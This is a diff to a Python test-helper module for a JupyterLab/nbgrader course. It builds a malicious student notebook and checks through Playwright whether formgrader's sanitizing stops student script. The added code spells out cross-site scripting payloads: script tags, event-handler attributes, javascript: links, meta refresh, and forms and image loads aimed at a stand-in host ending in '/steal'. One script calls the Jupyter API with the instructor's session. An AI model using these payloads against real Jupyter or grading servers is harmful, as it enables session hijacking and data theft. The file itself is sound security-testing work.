@@ -9,6 +9,11 @@ https://playwright.dev/python/docs/api/class-browsertype (``executable_path``,
 ``jp-RenderedMarkdown``, ``jp-RenderedImage``) and ``LabApp.expose_app_in_browser``, the
 hook JupyterLab's own Playwright tests (Galata) use; nbgrader 0.9.6's lab extension for
 the Validate button and its "Validation Results" dialog.
+
+For issue 21 it also builds a small attacking class (``attacking_class``), serves a
+grading workspace to formgrader (``serve_workspace``) and opens a page while recording
+its dialogs, console, requests and script-set globals, with everything off this machine
+blocked (``visit_page``: Playwright's ``page.route`` and ``page.on``).
 """
 from __future__ import annotations
 
@@ -136,11 +141,36 @@ def serve(workdir: Path, quick: bool = True) -> Iterator[Lab]:
         RuntimeError: the server did not answer within STARTUP_SECONDS; its log is in the message.
     """
     root = copy_course(workdir)
+    with _server(workdir, app="lab", cwd=workdir, root=root, quick=quick,
+                 extra=["--LabApp.expose_app_in_browser=True"]) as lab:  # window.jupyterapp
+        yield lab
+
+
+@contextlib.contextmanager
+def serve_workspace(course_dir: Path, workdir: Path) -> Iterator[Lab]:
+    """A Jupyter server for formgrader on a grading workspace, as its README says
+    (``jupyter lab`` in ``out/course``): started in ``course_dir``, where the grader
+    left nbgrader_config.py, with the server's root the folder above it (formgrader
+    needs the course root under the server root). The server imports ``grader`` from
+    this checkout (PYTHONPATH), as an installed course would: the sanitizing filters of
+    nbgrader_config.py are what formgrader's HTMLExporter runs. Stopped on exit.
+
+    Raises:
+        RuntimeError: the server did not answer within STARTUP_SECONDS.
+    """
+    with _server(workdir, app="server", cwd=course_dir, root=course_dir.parent, quick=True,
+                 extra=[], pythonpath=course.ROOT) as lab:
+        yield lab
+
+
+@contextlib.contextmanager
+def _server(workdir: Path, app: str, cwd: Path, root: Path, quick: bool, extra: list[str],
+            pythonpath: Path | None = None) -> Iterator[Lab]:
     token = secrets.token_hex(16)
     port = _free_port()
     settings = workdir / "lab-settings"
     # Never ask to fetch Jupyter's news feed: the popup would sit over the notebook.
-    (settings / "@jupyterlab" / "apputils-extension").mkdir(parents=True)
+    (settings / "@jupyterlab" / "apputils-extension").mkdir(parents=True, exist_ok=True)
     (settings / "@jupyterlab" / "apputils-extension" / "notification.jupyterlab-settings").write_text(
         json.dumps({"fetchNews": "false"}))
     env = dict(os.environ,
@@ -152,14 +182,14 @@ def serve(workdir: Path, quick: bool = True) -> Iterator[Lab]:
                JUPYTERLAB_WORKSPACES_DIR=str(workdir / "lab-workspaces"))
     if quick:
         env["NBGRADER_EXECUTION"] = "1"
-    log = workdir / "jupyterlab.log"
-    command = [sys.executable, "-m", "jupyter", "lab", "--no-browser", "--allow-root",
+    if pythonpath:
+        env["PYTHONPATH"] = str(pythonpath) + os.pathsep + os.environ.get("PYTHONPATH", "")
+    log = workdir / f"jupyter{app}.log"
+    command = [sys.executable, "-m", "jupyter", app, "--no-browser", "--allow-root",
                "--ServerApp.ip=127.0.0.1", f"--ServerApp.port={port}", "--ServerApp.port_retries=0",
-               f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={root.name}",
-               # window.jupyterapp: open and close notebooks as the file browser would
-               "--LabApp.expose_app_in_browser=True"]
+               f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={root}", *extra]
     with open(log, "w") as out:
-        server = subprocess.Popen(command, cwd=workdir, env=env, stdout=out, stderr=subprocess.STDOUT)
+        server = subprocess.Popen(command, cwd=cwd, env=env, stdout=out, stderr=subprocess.STDOUT)
     lab = Lab(f"http://127.0.0.1:{port}", token, root, log)
     try:
         deadline = time.monotonic() + STARTUP_SECONDS
@@ -169,7 +199,7 @@ def serve(workdir: Path, quick: bool = True) -> Iterator[Lab]:
                 break
             except OSError:
                 if server.poll() is not None or time.monotonic() > deadline:
-                    raise RuntimeError(f"JupyterLab did not start on port {port}:\n{lab.log_tail()}") from None
+                    raise RuntimeError(f"Jupyter did not start on port {port}:\n{lab.log_tail()}") from None
                 time.sleep(0.3)
         yield lab
     finally:
@@ -388,6 +418,149 @@ def screenshot_first_figure(page, path: Path) -> None:
     figure.scroll_into_view_if_needed()
     path.parent.mkdir(parents=True, exist_ok=True)
     figure.screenshot(path=str(path))
+
+
+# ---------------------------------------------------------------------------- an attacking class
+
+EVIL_HOST = "203.0.113.9"  # TEST-NET-3: nothing answers there; a request to it is a leak
+# What a student's script would do with the instructor's page: mark it, raise a dialog,
+# log, and call the Jupyter server's API with the instructor's session.
+ATTACK_JS = ("window.__pwned = (window.__pwned || 0) + 1; alert('student script'); "
+             "console.log('student script ran'); fetch('/api/contents').then("
+             "r => { window.__api = r.status; console.log('api ' + r.status); })")
+
+
+def attack_markdown() -> str:
+    """A markdown cell with script in every form the review tried."""
+    evil = f"http://{EVIL_HOST}"
+    return "\n\n".join([
+        "## Attacks (a security test; nothing here may run)",
+        f"<script>{ATTACK_JS}</script>",
+        f'<img src=x onerror="{ATTACK_JS}">',
+        f'<svg onload="{ATTACK_JS}"><circle r="4"/></svg>',
+        f'<iframe srcdoc="<script>parent.__pwned = 1; alert(1)</script>"></iframe>',
+        f'<a id="js-link" href="javascript:{ATTACK_JS}">a javascript: link</a> [md link](javascript:alert(1))',
+        f'<meta http-equiv="refresh" content="2;url={evil}/refresh">',
+        f'<base href="{evil}/">',
+        f'<form action="{evil}/steal"><input name="q" value="x"><button formaction="{evil}/b">go</button></form>',
+        f"<style>@import url({evil}/a.css); body {{ background: url({evil}/b.png) }}</style>",
+        f'<img src="{evil}/pixel.png"> ![pixel]({evil}/md.png) <object data="{evil}/o.swf"></object>',
+        f'<img src="data:image/png;base64,iVBORw0KGgo=" srcset="{evil}/s.png 2x">',
+        f'<details open ontoggle="{ATTACK_JS}">toggle</details>',
+    ])
+
+
+def attack_code() -> str:
+    """A code cell whose outputs carry script: HTML, markdown, JavaScript, SVG, and
+    image metadata the templates write into attributes (every literal by repr)."""
+    payload = f'<img src=x onerror="{ATTACK_JS}"><script>{ATTACK_JS}</script>'
+    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{ATTACK_JS}">'
+           '<rect width="20" height="20"/></svg>')
+    displays = [
+        ({"image/png": "not-a-png", "text/plain": "x"}, {"image/png": {"width": f'1 onerror="{ATTACK_JS}"'}}),
+        ({"image/png": "iVBORw0KGgo=", "text/plain": "y"}, {"filenames": {"image/png": f"http://{EVIL_HOST}/f.png"}}),
+        ({"text/html": "<b>isolated</b>" + payload}, {"text/html": {"isolated": True}}),
+    ]
+    return "\n".join([
+        "from IPython.display import HTML, SVG, Javascript, Markdown, display",
+        f"P = {payload!r}",
+        "display(HTML(P))",
+        "display(Markdown(P))",
+        f"display(Javascript({ATTACK_JS!r}))",
+        f"display(SVG({svg!r}))",
+        *(f"display({data!r}, raw=True, metadata={meta!r})" for data, meta in displays),
+    ])
+
+
+def attacking_class(dest: Path, honest: str = "ada", attacker: str = "mallory") -> Path:
+    """``dest/<student>/01_similarity/01_similarity.ipynb`` for two students: ``honest``
+    hands in sample_class/ada's notebook as it is; ``attacker`` the same with an attack
+    markdown cell, a cell of attacking outputs, and a ``dot_product`` that raises an
+    exception whose message is script (it becomes the diagnosis). Returns ``dest``."""
+    assignment = "01_similarity"
+    source = course.SAMPLE_CLASS / "ada" / assignment / f"{assignment}.ipynb"
+    for student in (honest, attacker):
+        (dest / student / assignment).mkdir(parents=True, exist_ok=True)
+    shutil.copy2(source, dest / honest / assignment / source.name)
+    nb = nbformat.read(source, as_version=4)
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "similarity-dot_product":
+            message = f'<img src=x onerror="{ATTACK_JS}"> $\\frac{{1}}{{$ [x](javascript:alert(1)) <script>{ATTACK_JS}</script>'
+            cell.source = f"def dot_product(a, b):\n    raise ValueError({message!r})\n"
+    nb.cells += [nbformat.v4.new_markdown_cell(attack_markdown()), nbformat.v4.new_code_cell(attack_code())]
+    nbformat.write(nb, dest / attacker / assignment / source.name)
+    return dest
+
+
+@dataclass
+class Visit:
+    """What a page did while it was open: dialogs, console lines, every request, the
+    requests to anywhere but this machine (all blocked), and the page's globals
+    ``__pwned`` and ``__api`` (set by a student's script) afterwards."""
+    url: str
+    dialogs: list[str]
+    console: list[str]
+    requests: list[str]
+    blocked: list[str]
+    pwned: object
+    api: object
+    figures: list[int]  # natural widths of the page's embedded PNG images (0: not shown)
+    images: list[int]  # natural widths of all its images
+    text: str
+
+    @property
+    def ran(self) -> list[str]:
+        """Signs that a student's script ran, empty when none did."""
+        signs = [f"dialog {d!r}" for d in self.dialogs]
+        signs += [f"console {c!r}" for c in self.console if "student script" in c or c.startswith("api ")]
+        signs += [f"window.__pwned = {self.pwned!r}"] * (self.pwned is not None)
+        signs += [f"the Jupyter API answered the student's script: {self.api!r}"] * (self.api is not None)
+        return signs
+
+
+def _local(url: str) -> bool:
+    return url.startswith(("file:", "data:", "about:", "http://127.0.0.1:", "blob:"))
+
+
+def visit_page(context, url: str, shot: Path | None = None, settle_ms: int = 2500) -> Visit:
+    """Open ``url`` in a new page of ``context`` with every request recorded and every
+    request off this machine blocked; wait ``settle_ms`` after load (a timed refresh,
+    late scripts); screenshot the whole page to ``shot``. Dialogs are dismissed."""
+    page = context.new_page()
+    seen = {"dialogs": [], "console": [], "requests": [], "blocked": []}
+
+    def dialog(d):
+        seen["dialogs"].append(d.message)
+        d.dismiss()
+
+    def route(r):
+        if _local(r.request.url):
+            r.continue_()
+        else:
+            seen["blocked"].append(r.request.url)
+            r.abort()
+
+    page.on("dialog", dialog)
+    page.on("console", lambda m: seen["console"].append(m.text))
+    page.on("request", lambda r: seen["requests"].append(r.url))
+    page.route("**/*", route)
+    page.goto(url, wait_until="load")
+    page.wait_for_timeout(settle_ms)
+    state = page.evaluate("""() => ({
+        pwned: window.__pwned === undefined ? null : window.__pwned,
+        api: window.__api === undefined ? null : window.__api,
+        figures: Array.from(document.querySelectorAll('img')).filter(i => i.src.startsWith('data:image/png'))
+                      .map(i => i.complete ? i.naturalWidth : 0),
+        images: Array.from(document.querySelectorAll('img')).map(i => i.complete ? i.naturalWidth : 0),
+        text: document.body ? document.body.innerText : '',
+    })""")
+    if shot:
+        shot.parent.mkdir(parents=True, exist_ok=True)
+        page.screenshot(path=str(shot), full_page=True)
+    final = page.url
+    page.close()
+    return Visit(final, seen["dialogs"], seen["console"], seen["requests"], seen["blocked"],
+                 state["pwned"], state["api"], state["figures"], state["images"], state["text"])
 
 
 # ---------------------------------------------------------------------------- a tour
